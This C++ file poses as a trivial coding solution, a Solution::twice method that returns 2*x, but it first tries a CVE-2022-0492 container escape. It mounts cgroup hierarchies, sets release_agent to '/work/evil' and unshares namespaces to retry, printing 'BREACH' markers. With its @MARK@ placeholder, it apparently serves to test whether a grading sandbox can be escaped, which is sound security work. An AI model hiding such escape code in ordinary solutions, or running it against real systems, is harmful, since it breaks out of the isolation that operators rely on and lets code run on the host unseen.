#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>
// CVE-2022-0492: mount a v1 hierarchy anew, in a user namespace if need be, and have the host's kernel run a program.
static bool hierarchy(const char* options) {
  if (mount("cgroup", "/work/group", "cgroup", 0, options) != 0 && mount("none", "/work/group", "cgroup2", 0, nullptr) != 0) return false;
  std::fputs("BREACH: a hierarchy of groups is mounted\n", stderr);
  const int agent = open("/work/group/release_agent", O_WRONLY);
  if (agent >= 0 && write(agent, "/work/evil", 10) == 10) std::fputs("BREACH: release_agent is set\n", stderr);
  return true;
}
class Solution {
 public:
  int twice(int x) {
    mkdir("/work/group", 0700);
    for (const char* options : {"memory", "pids", "rdma", "none,name=@MARK@"}) hierarchy(options);
    std::fprintf(stderr, "mount: %s\n", strerrorname_np(errno));
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0) hierarchy("none,name=@MARK@");
    std::fprintf(stderr, "unshare: %s\n", strerrorname_np(errno));
    return 2 * x;
  }
};
